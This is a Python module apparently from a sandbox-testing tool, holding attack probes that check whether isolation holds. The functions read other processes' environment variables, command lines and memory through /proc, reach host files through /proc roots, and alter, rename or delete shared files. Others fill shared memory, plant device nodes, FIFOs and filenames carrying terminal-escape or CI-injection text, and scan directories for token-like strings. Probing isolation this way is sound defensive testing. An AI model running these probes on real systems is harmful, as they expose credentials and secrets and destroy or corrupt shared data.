"""Read what is private, change what is shared, leave what is hard to clean up."""
# An attack makes bare system calls where it can, and speaks on standard output.
# ruff: noqa: PTH101, PTH102, PTH104, PTH108, PTH116, PTH123, PTH208, PTH211, S108, T201

import fcntl
import os
import re
import sys
from collections.abc import Iterator
from pathlib import Path

from fixproof.probe.attacks.payloads import tell

_DEPTH = 1200  # beyond the length of a path and the depth of a recursion


def write(*paths: str) -> tell.Attempts:
    """Make files where none belong."""
    for path in paths:
        yield path, lambda path=path: _make(f"{path}/fixproof-attempt")


def _make(path: str) -> None:
    os.close(os.open(path, os.O_CREAT | os.O_WRONLY, 0o600))
    os.unlink(path)


def shared_memory() -> tell.Attempts:
    """Fill the memory that processes share, and look for what others left there."""
    yield "listed", lambda: " ".join(sorted(os.listdir("/dev/shm")))
    yield "filled", _fill_shared


def _fill_shared() -> int:
    block = b"x" * (1024 * 1024)
    total = 0
    for number in range(12):
        descriptor = os.open(f"/dev/shm/fixproof-{number}", os.O_CREAT | os.O_WRONLY, 0o600)
        try:
            for _ in range(16):
                total += os.write(descriptor, block)
        except OSError:
            return total
        finally:
            os.close(descriptor)
    return total


def read(*paths: str) -> tell.Attempts:
    """Open private files and devices, and read nothing."""
    for path in paths:
        yield path, lambda path=path: os.close(os.open(path, os.O_RDONLY))


def listing(*paths: str) -> tell.Attempts:
    """List directories that tell about the host."""
    for path in paths:
        yield path, lambda path=path: len(os.listdir(path))


def surroundings() -> tell.Attempts:
    """Say all that can be found out about the others: environments, command lines, secrets."""
    for name in ("self", *_processes()):
        if name:
            for part in ("environ", "cmdline", "maps"):
                path = f"/proc/{name}/{part}"
                yield path, lambda path=path: Path(path).read_bytes().decode("utf-8", "replace")
    yield "own variables", lambda: dict(os.environ)


def _processes() -> list[str]:
    try:
        return sorted(filter(str.isdigit, os.listdir("/proc")))
    except OSError:
        return ["1", str(os.getppid())]


def roots(secret: str) -> tell.Attempts:
    """Reach the host's files through other processes' directories."""
    for pid in ("1", str(os.getppid()), "self"):
        for link in ("root", "cwd"):
            path = f"/proc/{pid}/{link}{secret}"
            yield f"{pid} {link}", lambda path=path: Path(path).read_text()
        yield f"{pid} memory", lambda pid=pid: _read_memory(pid)


def _read_memory(pid: str) -> None:
    if pid == "self":
        raise PermissionError(13, "one's own")
    os.close(os.open(f"/proc/{pid}/mem", os.O_RDWR))


def kernel_facts(*names: str) -> tell.Attempts:
    """Read what the kernel tells about itself and its host."""
    for name in names:
        yield name, lambda name=name: Path(f"/proc/{name}").read_bytes()[:4096].decode("latin-1")


def change(*paths: str) -> tell.Attempts:
    """Change files that are shared for reading, in every way there is."""
    for path in paths:
        name = Path(path).name
        yield f"{name} open", lambda path=path: os.close(os.open(path, os.O_WRONLY))
        yield f"{name} append", lambda path=path: os.close(os.open(path, os.O_APPEND | os.O_RDWR))
        yield f"{name} again", lambda path=path: _reopen(path)
        yield f"{name} truncate", lambda path=path: os.truncate(path, os.stat(path).st_size)
        yield f"{name} chmod", lambda path=path: os.chmod(path, os.stat(path).st_mode & 0o777)
        yield f"{name} utime", lambda path=path: os.utime(path)
        yield f"{name} xattr", lambda path=path: os.setxattr(path, "user.fixproof", b"x")
        yield f"{name} owner", lambda path=path: os.chown(path, os.getuid(), os.getgid())
        yield f"{name} rename", lambda path=path: os.rename(path, f"{path}.moved")
        yield f"{name} unlink", lambda path=path: os.unlink(path)


def _reopen(path: str) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    os.close(os.open(f"/proc/self/fd/{descriptor}", os.O_WRONLY))


def link(path: str) -> tell.Attempts:
    """Give a shared file a second name that can be written through."""
    yield "hard link", lambda: os.link(path, "second-name")
    yield "by descriptor", lambda: _link_descriptor(path)


def _link_descriptor(path: str) -> None:
    descriptor = os.open(path, os.O_RDONLY)
    os.link(f"/proc/self/fd/{descriptor}", "third-name", follow_symlinks=True)


def lock(path: str, seconds: str) -> tell.Attempts:
    """Hold a lock on a shared file."""
    import time

    descriptor = os.open(path, os.O_RDONLY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX | fcntl.LOCK_NB)
        print("locked", flush=True)
    except OSError as error:
        print(f"refused {error}", flush=True)
    time.sleep(float(seconds))
    yield "held", lambda: None


def artifacts(directory: str, target: str) -> tell.Attempts:
    """Leave results that lead elsewhere, hang their reader, or claim to be devices."""
    yield "symlink", lambda: os.symlink(target, f"{directory}/symlink")
    yield "fifo", lambda: os.mkfifo(f"{directory}/fifo")
    yield "device", lambda: os.mknod(f"{directory}/device", 0o20666, os.makedev(1, 3))
    yield "hard link", lambda: _twice(directory)


def _twice(directory: str) -> None:
    Path(f"{directory}/once").write_text("x")
    os.link(f"{directory}/once", f"{directory}/twice")


def warren(directory: str) -> tell.Attempts:
    """Dig deeper than a path can say, and name files so that listing them hurts."""
    for raw in (b"\xff\xfe", b"\x1b[2J", b"a\nb", b"::error::x"):
        yield ascii(raw), lambda raw=raw: _name(directory, raw)
    yield "deep", lambda: _dig(directory)


def _name(directory: str, raw: bytes) -> None:
    os.close(os.open(os.fsencode(directory) + b"/" + raw, os.O_CREAT | os.O_WRONLY, 0o600))


def _dig(directory: str) -> int:
    os.chdir(directory)
    for depth in range(_DEPTH):
        try:
            os.mkdir("deeper")
            os.chdir("deeper")
        except OSError:
            return depth
    return _DEPTH


def everything(*tops: str) -> tell.Attempts:
    """Print what looks like a token in any file that can be found below some directories."""
    yield "seen", lambda: " ".join(_seen(tops))


def _seen(tops: tuple[str, ...]) -> Iterator[str]:
    for top in tops:
        for directory, folders, names in os.walk(top):
            folders[:] = [f for f in folders if not sys.base_prefix.startswith(f"{directory}/{f}")]
            for name in names[:200]:
                try:
                    with open(f"{directory}/{name}", "rb") as file:
                        text = file.read(4096).decode("latin-1")
                except OSError:
                    continue
                yield from re.findall(r"\b[0-9a-f]{32}\b", text)


if __name__ == "__main__":
    tell.main({name: value for name, value in globals().items() if callable(value)})
